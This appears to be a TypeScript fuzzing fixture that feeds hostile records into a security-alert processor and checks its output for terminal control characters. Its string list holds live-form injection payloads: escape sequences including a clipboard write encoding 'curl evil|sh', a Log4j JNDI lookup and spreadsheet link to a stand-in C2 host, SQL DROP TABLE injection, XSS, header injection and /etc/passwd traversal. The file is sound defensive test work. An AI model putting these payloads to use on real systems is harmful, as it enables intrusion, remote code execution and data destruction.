/** Records as an attacker would send them, and what must never come out of the program because of them. */
import fc from 'fast-check';

export type HostileRecord = Record<string, unknown>;

/** Texts that steer terminals, readers, programs, spreadsheets and pages. */
export const HOSTILE_TEXTS: readonly string[] = [
  '\u001b[2J\u001b[H',
  '\u001b]0;all clear\u0007',
  '\u001b]52;c;Y3VybCBldmlsfHNo\u001b\\',
  '\u001b]8;;http://c2.example.net\u001b\\click\u001b]8;;\u001b\\',
  '\u001bP$q\u001b\\',
  '\u009b31m\u0090q\u009c',
  'a\u0000b',
  'line\r\nline\rover\u0008\u0008\u007f',
  '\u202etxt.exe\u202c\u2066x\u2069\u200f\u061c',
  'zero\u200bwidth\ufeff\u2060\u00ad',
  '\ud800 alone \udfff',
  '\u2028\u2029',
  '=HYPERLINK("http://c2.example.net","x")',
  '<script>alert(1)</script>',
  'x\r\nBcc: someone@example.org',
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  'C:\\CON\\NUL',
  '%s%s%n$\u007bjndi:ldap://c2.example.net}',
  "' OR 1=1; DROP TABLE alerts;--",
  '*',
  ' ',
  '.',
  '\u0301'.repeat(200),
  '🏴‍☠️👩‍👩‍👧‍👦',
  'A'.repeat(5000),
  '9'.repeat(400),
];

/** Members that the program reads. */
export const READ_MEMBERS = [
  ...['id', 'time', 'timestamp', 'severity', 'event_type', 'product', 'blade', 'protection_name', 'protection_type'],
  ...['src_machine_name', 'hostname', 'host', 'src_user_name', 'user', 'file_name', 'file_sha256', 'file_md5'],
  ...['suspicious_events', 'resource', 'src', 'dst', 'domain', 'process_name', 'malware_action', 'description'],
] as const;

const text = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.tuple(fc.constantFrom(...HOSTILE_TEXTS), fc.string({ maxLength: 8 })).map(([hostile, plain]) => plain + hostile),
);

const odd: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: text },
  { weight: 2, arbitrary: fc.array(text, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.boolean()) },
  { weight: 1, arbitrary: fc.constantFrom(null, {}, [], [[[[]]]], { a: { b: { c: [null] } } }, -1, 1e308, 2 ** 53) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
);

const host = fc.oneof(fc.constantFrom('WS-ALPHA', 'WS-BETA', 'ws-alpha.corp.example'), text, odd);

/** A record that may be believable, odd in some members, or odd through and through. */
export const hostileRecord: fc.Arbitrary<HostileRecord> = fc
  .tuple(host, fc.dictionary(fc.oneof(fc.constantFrom(...READ_MEMBERS), text), odd, { maxKeys: 10 }))
  .map(([name, members]) => {
    const record: HostileRecord = {
      severity: 'Critical',
      product: 'Forensics',
      time: new Date(Date.now() - 60_000).toISOString(),
      src_machine_name: name,
    };
    // Own members, whatever their name: a plain assignment of "__proto__" would set the prototype instead.
    for (const [key, value] of Object.entries(members)) {
      Object.defineProperty(record, key, { value, enumerable: true, configurable: true, writable: true });
    }
    return record;
  });

/** Each text of the corpus in each member that is read, and as the name of a member. */
export function corpus(): readonly HostileRecord[] {
  const time = new Date(Date.now() - 60_000).toISOString();
  return HOSTILE_TEXTS.flatMap((hostile, index) => {
    const plain = { severity: 'High', product: 'Forensics', time, src_machine_name: `WS-${index}` };
    const everywhere = Object.fromEntries(READ_MEMBERS.map((member) => [member, hostile]));
    const lists = Object.fromEntries(READ_MEMBERS.map((member) => [member, [hostile, hostile]]));
    const named = JSON.parse(`{${JSON.stringify(hostile)}:{"severity":"Low"}}`);
    return [
      { ...plain, ...everywhere, time, id: `all-${index}` },
      { ...plain, ...lists, time },
      { ...plain, src_machine_name: hostile },
      { ...plain, id: hostile },
      { ...plain, ...named, [hostile]: hostile },
    ];
  });
}

/** C0 but the line feed, DEL, C1, and the marks that turn the reading direction round. */
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** The first character that a terminal would obey, with what stands around it; null: there is none. */
export function obeyed(written: string): string | null {
  const at = written.search(OBEYED);
  return at === -1 ? null : JSON.stringify(written.slice(Math.max(0, at - 30), at + 30));
}
